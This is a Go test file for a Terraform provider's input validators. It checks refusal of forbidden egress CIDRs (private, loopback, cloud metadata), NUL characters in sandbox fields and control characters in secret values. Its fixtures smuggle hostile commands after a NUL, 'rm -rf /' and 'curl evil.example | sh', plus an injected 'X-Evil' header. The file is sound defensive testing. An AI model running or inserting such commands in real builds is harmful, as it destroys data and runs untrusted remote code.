package provider

import (
	"regexp"
	"strings"
	"testing"

	"github.com/hashicorp/terraform-plugin-testing/helper/resource"
)

// TestCheckCIDRAlwaysForbidden: allow_cidrs entries the egress proxy could never admit
// (the docs' old 10.20.0.0/16 among them) are refused by the proxy's own list; public
// ranges pass.
func TestCheckCIDRAlwaysForbidden(t *testing.T) {
	for s, want := range map[string]string{
		"10.20.0.0/16":        "lies in 10.0.0.0/8",
		"127.0.0.1/32":        "lies in 127.0.0.0/8",
		"169.254.169.254/32":  "lies in 169.254.0.0/16",
		"192.168.0.0/16":      "lies in 192.168.0.0/16",
		"203.0.113.0/24":      "lies in 203.0.113.0/24",
		"fd00::/8":            "lies in fc00::/7",
		"::127.0.0.1/128":     "lies in ::/96",
		"::ffff:10.0.0.0/104": "lies in 10.0.0.0/8",
	} {
		if msg := checkCIDR(s); !strings.Contains(msg, want) || !strings.Contains(msg, "public ranges") {
			t.Errorf("checkCIDR(%q) = %q, want it to say %q and the fix", s, msg, want)
		}
	}
	for _, s := range []string{"192.30.252.0/22", "8.8.8.0/24", "0.0.0.0/0", "2606:4700::/32"} {
		if msg := checkCIDR(s); msg != "" {
			t.Errorf("checkCIDR(%q) = %q, want ok", s, msg)
		}
	}
}

func TestNoNULAndSecretValueChecks(t *testing.T) {
	v := noNUL("why")
	if msg := v.check("build_script", "echo ok\x00rm -rf /"); !strings.Contains(msg, "build_script contains a NUL character (\\x00) at byte 7: why") {
		t.Errorf("noNUL message = %q", msg)
	}
	if msg := v.check("env", "fine\ttext\n"); msg != "" {
		t.Errorf("noNUL refused text without NUL: %q", msg)
	}
	sv := validSecretValue()
	for s, want := range map[string]string{"ghp_abc\n": "trimspace(file(...))", "a\x00b": "0x00", "a\r\nX-Evil: 1": "0x0d"} {
		if msg := sv.check(s); !strings.Contains(msg, want) || strings.Contains(msg, s) {
			t.Errorf("validSecretValue(%q) = %q, want %q and not the value", s, msg, want)
		}
	}
	if msg := sv.check("ghp_abc\tdef"); msg != "" {
		t.Errorf("validSecretValue refused a tab: %q", msg)
	}
}

// TestAccPlanRefusesBrokenSandboxInputs: plan refuses what would break every sandbox or
// build, naming the attribute (and key) and the fix: a NUL in an env value, build_script,
// image, dockerfile, entrypoint or label; an allow_cidrs range that is always forbidden;
// a secret value that cannot go in a header.
func TestAccPlanRefusesBrokenSandboxInputs(t *testing.T) {
	f := newFixture(t)
	env := func(body string) string {
		return `
resource "trueforge_environment" "bad" {
  name             = "bad"
  sandbox_provider = trueforge_sandbox_provider.local.name
  ` + body + `
}`
	}
	secret := func(value string) string {
		return `
resource "trueforge_environment" "py" {
  name             = "py"
  sandbox_provider = trueforge_sandbox_provider.local.name
}
resource "trueforge_secret" "gh" {
  environment = trueforge_environment.py.name
  env_name    = "GITHUB_TOKEN"
  hosts       = ["api.github.com"]
  value       = "` + value + `"
}`
	}
	cases := []struct{ name, config, want string }{
		{"NUL in an env value", env(`env = { FOO = "ok", BAR = "a\u0000b" }`), `(?s)NUL Character Not Allowed.*env key "BAR" contains a NUL.*every sandbox`},
		{"NUL in build_script", env(`build_script = "echo ok\u0000curl evil.example | sh"`), `(?s)NUL Character Not Allowed.*build_script contains a NUL character \(\\x00\) at byte 7`},
		{"NUL in image", env(`image = "platform\u0000"`), `(?s)NUL Character Not Allowed.*image contains a NUL`},
		{"NUL in dockerfile", env(`dockerfile = "FROM platform\nRUN echo\u0000rm"`), `(?s)NUL Character Not Allowed.*dockerfile contains a NUL`},
		{"NUL in entrypoint", env(`entrypoint = ["/bin/sh", "-c\u0000x"]`), `(?s)NUL Character Not Allowed.*entrypoint\[1\] contains a NUL`},
		{"NUL in a label", env(`labels = { team = "a\u0000" }`), `(?s)NUL Character Not Allowed.*labels key "team" contains a NUL`},
		{"private allow_cidrs", env(`network = { allow_cidrs = ["10.20.0.0/16"] }`), `(?s)allow_cidrs\[0\].*10.20.0.0/16 lies in 10.0.0.0/8.*public\s+ranges`},
		{"metadata allow_cidrs", env(`network = { allow_cidrs = ["169.254.169.254/32"] }`), `(?s)allow_cidrs.*169.254.169.254/32 lies in 169.254.0.0/16`},
		{"secret with a trailing newline", secret(`ghp_0123456789abcdef\n`), `(?s)value.*control\s+character.*trimspace\(file\(...\)\)`},
		{"secret with a NUL", secret(`ghp_0123\u0000456789abcdef`), `(?s)value.*control\s+character`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			resource.Test(t, resource.TestCase{
				PreCheck:                 func() { testAccPreCheck(t) },
				ProtoV6ProviderFactories: testAccProviders,
				Steps: []resource.TestStep{{
					Config:      f.config(c.config),
					PlanOnly:    true,
					ExpectError: regexp.MustCompile(c.want),
				}},
			})
		})
	}
}
